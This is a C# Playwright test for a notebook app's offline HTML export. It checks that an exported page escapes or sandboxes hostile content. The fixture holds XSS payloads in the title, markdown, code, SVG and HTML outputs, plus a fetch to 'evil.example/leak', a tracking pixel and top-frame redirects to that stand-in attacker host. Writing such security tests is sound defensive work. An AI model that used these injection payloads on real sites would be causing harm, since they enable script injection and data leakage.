using Microsoft.Playwright;
using Notebook.Protocol;
using Notebook.Web.Collaboration;
using Notebook.Web.Documents;
using Notebook.Web.Formats;

namespace Notebook.Tests.Browser;

/// <summary>An exported page opened from the disk: alive without a server, and nothing in it reaches anywhere.</summary>
public sealed class ExportedPageTests(Chromium chromium)
{
    private const string Hostile = """
        <p id="here">HTML output</p><div style="height:333px"></div>
        <img src="https://evil.example/pixel.png">
        <script>
          document.getElementById("here").textContent = "script ran, origin " + origin;
          fetch("https://evil.example/leak").catch(() => {});
          try { parent.document.title = "stolen"; } catch { }
          try { top.location = "https://evil.example/top"; } catch { }
        </script>
        """;

    [ChromiumFact]
    public async Task Page_FromDiskAndOffline_DrawsItsChartAndKeepsHtmlInItsFrame()
    {
        using var folder = new TemporaryFolder();
        var figure = """{"data":[{"type":"scatter","x":[1,2,3],"y":[4,5,6]},{"mode":"lines","name":"b","x":[1,2,3],"y":[1,2,3]}],"layout":{"title":{"text":"</script><script>document.title='stolen'</script>"}}}""";
        var table = """{"columns":[{"name":"City","type":"text"},{"name":"People","type":"number"}],"rows":[["<b>Oslo</b>",700000],["Łódź",null]],"totalRows":2,"truncated":false}""";
        var tree = """{"kind":"object","type":"Point","parts":[{"name":"X","value":{"kind":"number","text":"4"}}]}""";
        var document = new NotebookDocument
        {
            Id = NotebookId.New(),
            Title = "</title><script>document.title='stolen'</script> & more",
            CreatedAt = DateTimeOffset.UnixEpoch,
            ModifiedAt = DateTimeOffset.UnixEpoch,
            Cells =
            [
                Cell(CellKind.Markdown, "# Tides\n\n<script>document.title='stolen'</script><img src=x onerror=\"document.title='stolen'\">\n\n| a | b |\n|---|---|\n| 1 | 2 |"),
                Cell(CellKind.Code, "var greeting = $\"a {1 + 1} </pre><script>document.title='stolen'</script>\"; // comment", new StreamOutput { OutputId = "s", Stream = StreamName.Output, Text = StreamBuffer.Of("10 %\r100 %\n\u001b[31mred\u001b[0m <script>document.title='stolen'</script>\n") }),
                Cell(CellKind.Code, "chart", Shown(MimeTypes.Plotly, figure, "Line chart")),
                Cell(CellKind.Code, "table", Shown(MimeTypes.Table, table, "table"), Shown(MimeTypes.Tree, tree, "Point")),
                Cell(CellKind.Code, "html", Shown(MimeTypes.Html, Hostile, "HTML output")),
                Cell(CellKind.Code, "away", Shown(MimeTypes.Html, "<script>location = 'https://evil.example/away'</script>", "")),
                Cell(CellKind.Code, "svg", Shown(MimeTypes.Svg, "<svg xmlns='http://www.w3.org/2000/svg' width='10' height='10'><script>document.title='stolen'</script><rect width='10' height='10'/></svg>", "A square")),
                Cell(CellKind.Code, "throw", new ErrorCellOutput { OutputId = "e", Error = new ErrorReport { Name = "System.Exception", Message = "<b>boom</b>", Frames = [new ErrorFrame { Method = "F()", SourceName = "x", Line = 1 }] } }),
            ],
        };
        await File.WriteAllBytesAsync(folder["page.html"], NotebookWriter.Write(document, NotebookFormat.Html).Content.ToArray(), TestContext.Current.CancellationToken);
        await using var context = await chromium.NewContextAsync(new() { ViewportSize = new() { Width = 1100, Height = 900 }, ColorScheme = ColorScheme.Light });
        var page = await context.NewPageAsync();
        // What the policy stops never becomes a request that the network would see.
        var sent = new List<string>();
        await context.RouteAsync("http*://**", route =>
        {
            lock (sent)
                sent.Add(route.Request.Url);
            return route.AbortAsync();
        });

        await page.GotoAsync(new Uri(folder["page.html"]).ToString());

        var chart = page.Locator(".js-plotly-plot");
        await Assertions.Expect(chart).ToBeVisibleAsync();
        Assert.Equal("[4,5,6]", await chart.EvaluateAsync<string>("chart => JSON.stringify([...chart.data[0].y])"));
        // Told apart as on the notebook's own page: by more than colour, and by name only where there is one.
        Assert.Equal("[\"dash\",\"diamond\",false]", await chart.EvaluateAsync<string>("chart => JSON.stringify([chart.data[1].line.dash, chart.data[1].marker.symbol, chart.data[0].showlegend])"));
        await Assertions.Expect(page.GetByRole(AriaRole.Heading, new() { Name = "Tides" })).ToBeVisibleAsync();
        await Assertions.Expect(page.Locator(".table td").First).ToHaveTextAsync("<b>Oslo</b>");
        await Assertions.Expect(page.Locator("pre.stream")).ToHaveTextAsync("100 %\nred <script>document.title='stolen'</script>\n");
        await Assertions.Expect(page.Locator(".error-card .what")).ToHaveTextAsync("<b>boom</b>");
        await Assertions.Expect(page.Locator(".source .tok-keyword").First).ToHaveTextAsync("var");
        var frame = page.FrameLocator("iframe.frame >> nth=0");
        await Assertions.Expect(frame.Locator("#here")).ToHaveTextAsync("script ran, origin null");
        // As high as what it holds, whatever fonts this machine has.
        var (content, height) = (0.0, 0.0);
        var fits = await Eventually.TrueAsync(async () =>
        {
            content = await frame.Locator("body").EvaluateAsync<double>("body => Math.max(body.scrollHeight, body.offsetHeight)");
            height = await page.Locator("iframe.frame").First.EvaluateAsync<double>("frame => frame.clientHeight");
            return height > 300 && Math.Abs(height - content) < 20;
        });
        Assert.True(fits, $"The frame is {height} px high and holds {content} px.");
        Assert.True(await Eventually.TrueAsync(async () => await page.Locator(".picture img").EvaluateAsync<bool>("image => image.naturalWidth > 0")));

        Assert.Equal(document.Title, await page.TitleAsync());
        lock (sent)
            Assert.Empty(sent);
        await page.ScreenshotAsync(new() { Path = Path.Combine(RepositoryFolders.Artifacts, "export-light.png"), FullPage = true });
        await page.EmulateMediaAsync(new() { ColorScheme = ColorScheme.Dark });
        await page.ScreenshotAsync(new() { Path = Path.Combine(RepositoryFolders.Artifacts, "export-dark.png"), FullPage = true });
        await page.EmulateMediaAsync(new() { Media = Media.Print, ColorScheme = ColorScheme.Light });
        await page.ScreenshotAsync(new() { Path = Path.Combine(RepositoryFolders.Artifacts, "export-print.png"), FullPage = true });
        Assert.StartsWith("file:", page.Url, StringComparison.Ordinal);
    }

    private static Cell Cell(CellKind kind, string source, params CellOutput[] outputs) =>
        new() { Id = CellId.New(), Kind = kind, Language = kind == CellKind.Code ? "csharp" : "markdown", Text = TextDocument.Of(source), Outputs = [.. outputs] };

    private static DisplayOutput Shown(string type, string content, string plain) => new() { OutputId = type, Data = MimeBundle.Of(type, content, plain) };
}
